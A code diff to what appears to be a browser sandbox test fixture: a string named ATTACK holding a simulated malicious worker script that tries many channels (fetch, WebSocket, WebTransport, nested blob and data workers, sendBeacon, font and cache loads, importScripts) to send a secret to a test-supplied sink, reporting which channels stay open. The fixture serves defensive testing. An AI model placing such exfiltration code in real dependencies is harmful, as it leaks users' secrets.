@@ -1,6 +1,7 @@
 /**
  * A malicious dependency: the text of a worker's script that tries every channel to the sink, with
- * what it has seen in the address. It answers with the channels that did not throw.
+ * what it has seen in the address. It says each channel that did not throw as it is found, and all
+ * of them at the end.
  */
 export const ATTACK: string = String.raw`
 self.onmessage = async ({ data: { http, ws, secret, own } }) => {
@@ -27,15 +28,6 @@ self.onmessage = async ({ data: { http, ws, secret, own } }) => {
       events.onerror = reject;
     }),
     webTransport: async () => { await new WebTransport(at("web-transport")).ready; },
-    import: () => import(at("import")),
-    urlWorker: () => workerOf(at("worker")),
-    ownWorker: () => workerOf(own + "?" + secret),
-    blobWorker: () => workerOf(URL.createObjectURL(new Blob([
-      "fetch(" + JSON.stringify(at("blob-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
-    ]))),
-    dataWorker: () => workerOf("data:text/javascript," + encodeURIComponent(
-      "fetch(" + JSON.stringify(at("data-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
-    )),
     cache: async () => (await caches.open("x")).add(at("cache")),
     font: () => new FontFace("x", "url(" + at("font") + ")").load(),
     beacon: async () => { if (!navigator.sendBeacon(at("beacon"), secret)) throw 1; },
@@ -44,15 +36,31 @@ self.onmessage = async ({ data: { http, ws, secret, own } }) => {
     blob: () => fetch(URL.createObjectURL(new Blob([secret]))),
     evalCode: async () => new Function("return 1")(),
   };
+  // Each in its turn: Firefox may block a worker for good that makes a worker, or loads a script,
+  // while it imports a module.
+  const modules = { import: () => import(at("import")) };
+  const workers = {
+    urlWorker: () => workerOf(at("worker")),
+    ownWorker: () => workerOf(own + "?" + secret),
+    blobWorker: () => workerOf(URL.createObjectURL(new Blob([
+      "fetch(" + JSON.stringify(at("blob-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
+    ]))),
+    dataWorker: () => workerOf("data:text/javascript," + encodeURIComponent(
+      "fetch(" + JSON.stringify(at("data-worker")) + ").then(() => postMessage(1), () => { throw 1; })",
+    )),
+  };
   const open = [];
-  await Promise.all(Object.entries(tried).map(async ([name, attempt]) => {
-    try {
-      await Promise.race([attempt(), new Promise((_, reject) => setTimeout(reject, 4000))]);
-      open.push(name);
-    } catch {}
-  }));
-  // Last: it blocks this thread, and Firefox may hold the connections of what is under way until
-  // the thread has taken their answers.
+  for (const kind of [tried, modules, workers]) {
+    await Promise.all(Object.entries(kind).map(async ([name, attempt]) => {
+      postMessage({ trying: name });
+      try {
+        await Promise.race([attempt(), new Promise((_, reject) => setTimeout(reject, 4000))]);
+        open.push(name);
+        postMessage({ found: name });
+      } catch {}
+    }));
+  }
+  // Last: it blocks this thread.
   try {
     importScripts(at("import-scripts"));
     open.push("importScripts");
